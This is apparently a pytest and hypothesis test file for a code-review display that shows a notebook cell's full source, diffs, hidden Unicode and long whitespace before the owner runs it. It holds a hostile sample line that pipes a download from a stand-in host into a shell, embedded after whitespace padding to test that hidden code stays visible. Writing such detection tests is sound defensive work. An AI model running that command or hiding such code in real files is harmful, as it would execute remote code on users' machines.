"""A cell as the owner reads it before running it: all of it."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len

from sharegate.cli.source import source_lines
from sharegate.source import visible
from tests.cli import scripted as views

EVIL = "import os; os.system('curl evil | sh')"


def lines(source: str, before: str | None = None, width: int = 0) -> list[str]:
    return source_lines(views.ask(source=source, before=before), width)


def test_what_changed_since_the_last_run_is_marked_in_the_whole() -> None:
    """Where the owner ran the cell before, the difference is marked, and the rest stands there too."""
    found = lines("a = 1\nb = 5\nc = 3", "a = 1\nb = 2\nc = 3")
    assert found[0].startswith("@ ") and found[1:] == ["  a = 1", "- b = 2", "+ b = 5", "  c = 3"]
    assert lines("x", "x") == ["@ as when you ran it last", "  x"]
    assert lines("") == ["  ", "@ (empty)"]
    long = "\n".join(f"line {at}" for at in range(1000))
    changed = lines("new\n" + long, long)
    assert "+ new" in changed and changed[-1] == "  line 999"


def test_attack_code_far_from_the_change() -> None:
    """A line that did not change is shown however far it stands from those that did."""
    before = "\n".join(["# ok"] * 3 + [EVIL] + ["# ok"] * 10 + ["print(1)"])
    assert f"  {EVIL}" in lines(before.replace("print(1)", "print(2)"), before)


@pytest.mark.parametrize(
    "source",
    [
        f"x = 1{' ' * 300}; {EVIL}",
        f"x = 1{chr(9) * 90}; {EVIL}",
        f"if True:\n{' ' * 3000}{EVIL}",
        "x = 1" + "\n" * 3000 + EVIL,
        "x = 1" + ("\n" + " " * 30) * 300 + "\n" + EVIL,
        f"x = '{'a' * 3000}'; {EVIL}",
    ],
    ids=["blanks", "tabs", "indent", "empty lines", "blank lines", "long word"],
)
def test_attack_code_that_is_pushed_out_of_sight(source: str) -> None:
    """Neither blanks nor empty lines nor a long line hide what comes after them."""
    found = lines(source, width=80)
    assert EVIL in "".join(line[2:] for line in found)
    assert len(found) < 45
    assert all(cell_len(line) <= 80 for line in found)


@pytest.mark.parametrize(
    "hidden", ["\u3164", "\u2800", "\u00a0", "\u3000", "\ufe0f", "\u202e", "\u200b", "\x0b", "\x1b"]
)
def test_attack_letters_without_a_shape(hidden: str) -> None:
    """What draws nothing, turns the text around or moves the cursor is shown as a mark."""
    assert visible(f"a{hidden}b") == "a�b"


def test_attack_blanks_without_end() -> None:
    """Long runs of blanks are counted, before a line and in it; those of ordinary code stay."""
    assert visible(f"x = 1{' ' * 300}; steal()") == "x = 1⟨300 blanks⟩; steal()"
    assert visible(f"{' ' * 300}steal()") == "⟨300 blanks⟩steal()"
    assert visible(f"{' ' * 12}x = 1{' ' * 10}# twelve") == f"{' ' * 12}x = 1{' ' * 10}# twelve"


def test_lines_end_where_python_ends_them() -> None:
    """A carriage return begins a line of code; what only looks like an end of a line begins none."""
    assert lines(f"# nothing\r{EVIL}") == ["  # nothing", f"  {EVIL}"]
    assert lines("# one\x0b\x0c\x85\u2028still") == ["  # one����still"]


def test_marks_on_a_letter_cover_nothing() -> None:
    """Two marks on a letter are writing; many are shown beside it."""
    assert visible("e\u0301\u0323!") == "e\u0301\u0323!"
    assert visible("e" + "\u0301" * 50) == "e" + "�" * 50


@given(st.text() | st.text("ab \t\n\r#ü漢\u0301"), st.none() | st.text("ab\n "), st.integers(20, 90))
def test_attack_a_source_that_moves_the_cursor(source: str, before: str | None, width: int) -> None:
    """Whatever a cell holds, no control character reaches the terminal, no line is too wide, and none is cut: together
    they are what is shown without wrapping. Only what goes on has an arrow beside its mark."""
    whole = lines(source, before)
    found = lines(source, before, width)
    joined: list[str] = []
    for line in found:
        assert {unicodedata.category(char) for char in line}.isdisjoint({"Cc", "Cf", "Zl", "Zp"}), ascii(line)
        assert cell_len(line) <= width
        assert re.match("[-+@ ][ ↪]", line)
        if line[1] == "↪":
            joined[-1] += line[2:]
        else:
            joined.append(line)
    assert joined == whole


@given(st.text("ab#=\n", max_size=300), st.text("ab#=\n", max_size=300))
def test_every_line_is_there_whatever_it_is_compared_with(source: str, before: str) -> None:
    """All lines but those that are gone, in their order, are the cell."""
    there = [line[2:] for line in lines(source, before) if line[0] in " +"]
    counted = [part for line in there for part in ([""] * int(line[1:].split()[0]) if line.startswith("⟨") else [line])]
    assert "\n".join(counted).rstrip("\n") == source.rstrip("\n")
